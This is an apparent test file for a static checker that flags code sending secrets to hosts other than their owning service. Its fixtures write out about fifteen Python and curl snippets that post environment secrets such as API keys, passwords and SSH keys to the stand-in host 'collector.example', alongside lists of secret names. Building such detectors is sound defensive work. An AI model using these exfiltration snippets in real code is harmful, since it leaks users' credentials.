@@ -1,0 +1,278 @@
+"""The core that all readers of programs share: what a secret is, where it belongs, and what is judged alike."""
+
+from __future__ import annotations
+
+import re
+from typing import TYPE_CHECKING
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from whet.guard.python import checker as python
+from whet.guard.rules import severity_of
+from whet.guard.tables import load_sets
+from whet.guard.taint.mark import ENVIRONMENT, HOLE, Mark
+from whet.guard.taint.network import judge_key, judge_lookup, judge_request
+from whet.guard.taint.secret import belongs, own_service, owner, secret_name
+
+if TYPE_CHECKING:
+    from whet.guard.finding import Severity
+
+SECRETS = (
+    "OPENAI_API_KEY",
+    "GITHUB_TOKEN",
+    "AWS_SECRET_ACCESS_KEY",
+    "AWS_ACCESS_KEY_ID",
+    "JWT_SECRET",
+    "DATABASE_URL",
+    "SSH_PRIVATE_KEY",
+    "PASSWORD",
+    "DB_PASS",
+    "PGPASSWORD",
+    "MONGO_URI",
+    "NPM_TOKEN",
+    "apiKey",
+    "CLIENT_SECRET",
+    "ACME_API_KEY",
+    "GH_PAT",
+    "WALLET_MNEMONIC",
+)
+PLAIN = (
+    "PATH",
+    "PWD",
+    "HOME",
+    "KEY_PATH",
+    "MAX_TOKENS",
+    "PUBLIC_KEY",
+    "SECRET_NAME",
+    "TOKEN_URL",
+    "REPORT_WEEK",
+    "KEYBOARD",
+    "TOKENIZERS_PARALLELISM",
+    "LANG",
+    "OPENAI_BASE_URL",
+    "API_KEY_FILE",
+    "COMPASS_LEVEL",
+)
+
+
+def test_the_names_of_secrets_are_told_from_others() -> None:
+    assert [name for name in SECRETS if not secret_name(name)] == []
+    assert [name for name in PLAIN if secret_name(name)] == []
+
+
+def test_a_secret_belongs_to_a_vendor_to_somebody_or_to_nobody_else() -> None:
+    assert {
+        name: belongs(name) for name in ("OPENAI_API_KEY", "ACME_TOKEN", "API_KEY", "JWT_SECRET", "SSH_PRIVATE_KEY")
+    } == {
+        "OPENAI_API_KEY": "vendor",
+        "ACME_TOKEN": "other",
+        "API_KEY": "generic",
+        "JWT_SECRET": "nowhere",
+        "SSH_PRIVATE_KEY": "nowhere",
+    }
+    assert owner("AWS_ACCESS_KEY_ID") == owner("AWS_SECRET_ACCESS_KEY") == "aws"
+
+
+@pytest.mark.parametrize(
+    ("name", "url", "own"),
+    [
+        ("OPENAI_API_KEY", "https://api.openai.com/v1", True),
+        ("OPENAI_API_KEY", "https://api.openai.com.collector.net/v1", False),
+        ("OPENAI_API_KEY", "https://openai-proxy.vercel.app/v1", False),
+        ("OPENAI_API_KEY", "http://api.openai.com/v1", False),
+        ("ACME_API_KEY", "https://api.acme.com/v1", True),
+        ("ACME_API_KEY", "http://api.acme.com/v1", False),
+        ("ACME_API_KEY", "https://collector.net/in", False),
+        ("ACME_API_KEY", "https://203.0.113.7/acme", False),
+        ("TMDB_API_KEY", "https://api.themoviedb.org/3", True),
+        ("XYZ_API_KEY", "https://collector.net/in", False),
+        ("JWT_SECRET", "https://collector.net/in", False),
+    ],
+)
+def test_a_key_belongs_to_the_host_of_its_service(name: str, url: str, own: bool) -> None:
+    assert own_service(name, url) is own
+
+
+@pytest.mark.parametrize(
+    ("name", "url", "body", "head"),
+    [
+        ("OPENAI_API_KEY", "https://api.openai.com/v1", None, None),
+        ("OPENAI_API_KEY", "https://collector.example/in", "critical", "critical"),
+        ("OPENAI_API_KEY", "https://github.com/x", "warn", None),
+        ("OPENAI_API_KEY", f"https://{HOLE}/v1", None, None),
+        ("OPENAI_API_KEY", "http://127.0.0.1:8080/v1", None, None),
+        ("FOO_TOKEN", "https://api.foo.io/v1", None, None),
+        ("FOO_TOKEN", "https://collector.example/in", "warn", None),
+        ("FOO_TOKEN", "http://203.0.113.7/in", "warn", "warn"),
+        ("API_KEY", "https://api.service.example/v1", None, None),
+        ("PASSWORD", "https://app.example/login", None, None),
+        ("PASSWORD", "https://collector.example/in", "critical", None),
+        ("JWT_SECRET", "https://collector.example/in", "critical", "critical"),
+        ("SSH_PRIVATE_KEY", f"{HOLE}/in", "warn", None),
+    ],
+)
+def test_a_key_is_judged_by_its_owner_and_its_way(
+    name: str, url: str, body: Severity | None, head: Severity | None
+) -> None:
+    assert (judge_key(name, url, in_head=False), judge_key(name, url, in_head=True)) == (body, head)
+
+
+def test_what_no_service_needs_is_grave_wherever_it_goes() -> None:
+    key = Mark("secret", "SSH keys", "~/.ssh/id_rsa", grave=True, whole=True)
+    for mark in (ENVIRONMENT, key):
+        assert [(one.rule, one.severity) for one in judge_request("https://x.example/in", frozenset((mark,)))] == [
+            ("secret-sent", None)
+        ]
+        assert [one.severity for one in judge_request("http://localhost/in", frozenset((mark,)))] == ["warn"]
+    assert [one.rule for one in judge_lookup(f"{HOLE}.x.example", frozenset((key,)))] == ["sent-by-lookup"]
+    assert list(judge_request("https://x.example/in", frozenset())) == []
+
+
+def test_the_tables_are_sound() -> None:
+    keys = load_sets("keys")
+    assert set(keys) == {"words", "whole", "nowhere", "about", "public", "plain", "generic", "services"}
+    for name, rows in keys.items():
+        if name == "services":
+            assert all(re.fullmatch("[a-z]+", one) for one in rows)
+            assert all(re.fullmatch(r"[a-z0-9-]+(?:\.[a-z0-9-]+)+", host) for hosts in rows.values() for host in hosts)
+        else:
+            assert rows and all(re.fullmatch("[a-z0-9]+(?:_[a-z0-9]+)*", row) for row in rows), name
+
+
+# --- one danger, many programs ----------------------------------------------------------------------------------------
+
+NAMES = ("OPENAI_API_KEY", "JWT_SECRET", "DATABASE_URL", "SSH_PRIVATE_KEY", "PASSWORD")
+URL = "https://collector.example/in"
+PYTHON = {
+    "a body": "requests.post(U, data=os.environ[N])",
+    "a parameter": "requests.get(U, params={'q': os.getenv(N)})",
+    "the address": "requests.get(f'{U}?q={os.environ[N]}')",
+    "a variable": "k = os.environ.get(N, '')\nrequests.post(U, json={'k': k})",
+    "a function": "def take(n):\n    return os.environ[n]\ndef send(x):\n    requests.post(U, data=x)\nsend(take(N))",
+    "a loop": "for name in [N]:\n    requests.post(U, data=os.environ.get(name))",
+    "a dictionary": "d = {}\nd['a'] = os.environ[N]\nrequests.post(U, json=d)",
+    "json": "requests.post(U, data=json.dumps({'a': os.environ[N]}))",
+    "base64": "requests.post(U, data=base64.b64encode(os.environ[N].encode()))",
+    "a file": "open('/tmp/a', 'w').write(os.environ[N])\nrequests.post(U, files={'f': open('/tmp/a', 'rb')})",
+    "urllib": "urllib.request.urlopen(urllib.request.Request(U, data=os.environ[N].encode()))",
+    "a client": "s = requests.Session()\ns.post(U, data={'a': os.environ[N]})",
+    "curl": "subprocess.run(['curl', '-d', os.environ[N], U])",
+    "curl in a shell": "os.system(f'curl -d {os.environ[N]} {U}')",
+    "a list": "out = []\nout.append(os.environ[N])\nrequests.post(U, data='\\n'.join(out))",
+}
+IMPORTS = "import base64, json, os, subprocess, urllib.request\nimport requests\n"
+
+
+def worst(hits: tuple[object, ...]) -> str:
+    found = [severity_of(hit) for hit in hits]  # type: ignore[arg-type]  # hits of whichever reader
+    return "critical" if "critical" in found else "warn" if "warn" in found else "info"
+
+
+@pytest.mark.parametrize("way", PYTHON)
+def test_python_that_sends_a_secret_is_dangerous(way: str) -> None:
+    for name in NAMES:
+        text = f"{IMPORTS}U, N = '{URL}', '{name}'\n{PYTHON[way]}\n"
+        assert worst(python.check(text).hits) == "critical", text
+
+
+@pytest.mark.parametrize("way", PYTHON)
+def test_python_that_sends_a_key_to_its_own_service_is_left_alone(way: str) -> None:
+    for name, url in (("FOO_TOKEN", "https://api.foo.io/v1"), ("OPENAI_API_KEY", "https://api.openai.com/v1")):
+        text = f"{IMPORTS}U, N = '{url}', '{name}'\n{PYTHON[way]}\n"
+        assert worst(python.check(text).hits) == "info", text
+
+
+CONSTANTS = (
+    "''",
+    "'a1'",
+    "'%s {} {x}'",
+    "b''",
+    "b'6162'",
+    "0",
+    "-3",
+    "1.5",
+    "[]",
+    "['a', 1]",
+    "('a', b'b')",
+    "{}",
+    "{'a': [1]}",
+    "None",
+    "...",
+)
+METHODS = (
+    "hex",
+    "lower",
+    "strip",
+    "split",
+    "join",
+    "replace",
+    "encode",
+    "decode",
+    "translate",
+    "read",
+    "readline",
+    "readlines",
+    "substitute",
+    "format",
+    "format_map",
+    "get",
+    "items",
+    "keys",
+    "values",
+    "partition",
+    "splitlines",
+    "removeprefix",
+    "startswith",
+    "append",
+    "update",
+    "extend",
+    "insert",
+)
+FUNCTIONS = (
+    "base64.b64decode",
+    "bytes.fromhex",
+    "binascii.unhexlify",
+    "zlib.decompress",
+    "codecs.decode",
+    "chr",
+    "ord",
+    "bytes",
+    "bytearray",
+    "str",
+    "list",
+    "map",
+    "reversed",
+    "os.path.join",
+    "pathlib.Path",
+    "json.loads",
+    "json.dumps",
+    "int",
+    "sum",
+    "getattr",
+    "os.getenv",
+    "functools.reduce",
+    "print",
+    "eval",
+)
+
+
+@settings(max_examples=300)
+@given(st.data())
+def test_constants_of_the_wrong_type_break_no_folding(data: st.DataObject) -> None:
+    pick = st.sampled_from(CONSTANTS)
+    given_ = ", ".join(data.draw(st.lists(pick, max_size=3)))
+    line = data.draw(
+        st.one_of(
+            st.builds(lambda one, method: f"({one}).{method}({given_})", pick, st.sampled_from(METHODS)),
+            st.builds(lambda one: f"{one}({given_})", st.sampled_from(FUNCTIONS)),
+            st.builds(
+                lambda a, b, op: f"({a}) {op} ({b})", pick, pick, st.sampled_from(["+", "%", "*", "/", "-", "^", "<<"])
+            ),
+            st.builds(lambda a, b: f"({a})[{b}]", pick, pick),
+            st.builds(lambda a, b, c: f"({a})[{b}:{c}]", pick, pick, pick),
+        )
+    )
+    imports = "import os, base64, binascii, zlib, codecs, pathlib, json, functools"
+    python.check(f"{imports}\nx = {line}\nos.system(x)\nopen(x, 'w').write(x)\n")
